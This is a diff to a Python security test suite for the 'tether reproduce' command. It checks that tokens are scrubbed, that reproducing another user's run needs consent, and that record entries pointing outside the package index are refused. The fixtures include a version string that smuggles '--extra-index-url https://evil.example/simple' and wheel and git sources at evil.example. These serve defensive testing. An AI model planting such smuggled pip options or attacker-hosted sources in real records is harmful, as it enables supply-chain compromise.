@@ -17,8 +17,12 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+import tether as tether_package
 from tests.conftest import BIN, Tether, git, write_files
 from tether.api import Project
+
+# a subprocess imports the Tether under test, wherever the test's own came from
+SOURCES = str(Path(tether_package.__file__).resolve().parents[1])
 
 JOB = """import json, os, sys
 value = os.environ.get("GH_TOKEN", "")
@@ -73,6 +77,16 @@ def victim(repo: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> dict[
     return env
 
 
+def flat(text: str) -> str:
+    """Output as one line: the terminal's wrapping undone."""
+    return " ".join(text.split())
+
+
+def this_tether() -> dict[str, str]:
+    path = os.environ.get("PYTHONPATH")
+    return {**os.environ, "PYTHONPATH": os.pathsep.join(filter(None, [SOURCES, path]))}
+
+
 def runs(repo: Path) -> int:
     with Project.open(repo) as project:
         return len(project.search_runs(""))
@@ -84,7 +98,7 @@ def test_someone_elses_run_is_not_reproduced_without_yes_when_no_one_can_be_aske
     seen = recorded(repo, tether, monkeypatch, "mallory")
     before = runs(repo)
     as_user(monkeypatch, "victim")
-    out = tether("reproduce", "job", expect=3).output  # CliRunner's stdin is no terminal
+    out = flat(tether("reproduce", "job", expect=3).output)  # CliRunner's stdin: no terminal
     assert "recorded by mallory, not by you (victim)" in out
     assert "job.py" in out and "+1 -0" in out  # the patch, summarised
     assert " ".join([sys.executable, "job.py", str(seen)]) in out  # the command
@@ -99,7 +113,7 @@ def test_a_reproduction_runs_without_your_tokens_keys_and_cloud_credentials(
 ) -> None:
     seen = recorded(repo, tether, monkeypatch, "mallory")
     as_user(monkeypatch, "victim")
-    out = tether("reproduce", "job", "--yes", "--pass-env", "HF_TOKEN", expect=0).output
+    out = flat(tether("reproduce", "job", "--yes", "--pass-env", "HF_TOKEN", expect=0).output)
     child = json.loads(seen.read_text())
     gone = [
         "TETHER_TOKEN",
@@ -123,7 +137,7 @@ def test_your_own_run_is_reproduced_without_asking(
     repo: Path, tether: Tether, monkeypatch: pytest.MonkeyPatch, victim: dict[str, str]
 ) -> None:
     seen = recorded(repo, tether, monkeypatch, "victim")
-    out = tether("reproduce", "job", expect=0).output
+    out = flat(tether("reproduce", "job", expect=0).output)
     assert "REPRODUCED" in out and "Reproduce it?" not in out and "recorded by" not in out
     assert "TETHER_TOKEN" not in json.loads(seen.read_text())  # scrubbed all the same
 
@@ -137,6 +151,7 @@ def test_a_prompt_on_a_terminal_asks_and_a_no_runs_nothing(
     proc = subprocess.Popen(
         [str(BIN / "tether"), "reproduce", "job"],
         cwd=repo,
+        env=this_tether(),
         stdin=terminal,
         stdout=terminal,
         stderr=terminal,
@@ -182,7 +197,12 @@ def test_reproduce_never_reads_the_keys_folder(
         "    print('EXIT', exc.code, touched)\n"
     )
     proc = subprocess.run(
-        [sys.executable, "-c", watch], cwd=repo, capture_output=True, text=True, check=False
+        [sys.executable, "-c", watch],
+        cwd=repo,
+        env=this_tether(),
+        capture_output=True,
+        text=True,
+        check=False,
     )
     assert "EXIT 0 []" in proc.stdout, proc.stdout + proc.stderr
 
@@ -218,16 +238,18 @@ def test_a_fresh_environment_refuses_a_record_listing_a_vcs_or_url_requirement(
             "innocent": {"version": "1.0\n--extra-index-url https://evil.example/simple"},
         },
     )
-    out = tether("reproduce", "job", "--env", "fresh", "--yes", expect=3).output
+    out = flat(tether("reproduce", "job", "--env", "fresh", "--yes", expect=3).output)
     assert "FAILED" in out and "outside your configured package index" in out
     assert "evil-wheel from a URL https://evil.example/e.whl" in out
     assert "evil-git from git at https://evil.example/r.git" in out
     assert "innocent" in out and "--allow-direct-sources" in out
     assert not seen.exists()  # refused before anything was built or run
     # the opt-in lets direct sources through, never an entry that carries pip options
-    out = tether(
-        "reproduce", "job", "--env", "fresh", "--yes", "--allow-direct-sources", expect=3
-    ).output
+    out = flat(
+        tether(
+            "reproduce", "job", "--env", "fresh", "--yes", "--allow-direct-sources", expect=3
+        ).output
+    )
     assert "innocent" in out and "evil-wheel" not in out and not seen.exists()
 
 
@@ -260,8 +282,9 @@ def test_a_record_s_packages_never_become_pip_options(packages: Any, allow: bool
 
 
 def masked(repo: Path, tether: Tether, redactions: list[dict[str, Any]] | None) -> None:
-    """A run whose patch has a value redaction replaced by the mask (line 2 of job.py); with
-    ``redactions``, the record lists them as the capture does."""
+    """A run whose patch has a value redaction replaced by the mask (line 2 of job.py); the
+    record lists ``redactions`` as the capture does, or (None) lists none, as an older Tether
+    sealed it."""
     from tether.runs.record import dump_record
 
     write_files(repo, {"job.py": JOB})
@@ -274,11 +297,11 @@ def masked(repo: Path, tether: Tether, redactions: list[dict[str, Any]] | None) 
     seen = repo.parent / "masked-env.json"
     tether("run", "-n", "masked", "--out", "out.txt", "--", sys.executable, "job.py", str(seen))
     git(repo, "checkout", "job.py")
-    if redactions is None:
-        return
     with Project.open(repo) as project:
         record = project.get_run("masked")
-        record["code"]["redactions"] = redactions
+        record["code"].pop("redactions", None)
+        if redactions is not None:
+            record["code"]["redactions"] = redactions
         body = {k: v for k, v in record.items() if k not in ("tether", "kind", "format", "links")}
         oid = project.ws.store.put_bytes(dump_record("run", body))
         project.ws.refs.set(f"runs/{record['id']}", [oid])
@@ -288,16 +311,16 @@ def test_a_patch_redaction_altered_is_refused_until_pass_env_says_where_the_valu
     repo: Path, tether: Tether
 ) -> None:
     masked(repo, tether, [{"file": "job.py", "line": 2, "rule": "github-token"}])
-    out = tether("reproduce", "masked", expect=3).output
+    out = flat(tether("reproduce", "masked", expect=3).output)
     assert "FAILED" in out and "altered by redaction" in out
     assert "job.py:2 (github-token)" in out and "--pass-env" in out
-    out = tether("reproduce", "masked", "--pass-env", "GH_TOKEN", expect=0).output
+    out = flat(tether("reproduce", "masked", "--pass-env", "GH_TOKEN", expect=0).output)
     assert "REPRODUCED" in out and "job.py:2" in out  # ran, and says what it ran
 
 
 def test_an_older_record_s_masked_patch_is_found_by_the_mask(repo: Path, tether: Tether) -> None:
     masked(repo, tether, None)  # no `code.redactions`: the mask on an added line tells
-    out = tether("reproduce", "masked", expect=3).output
+    out = flat(tether("reproduce", "masked", expect=3).output)
     assert "job.py:2 (the mask ***)" in out
 
 
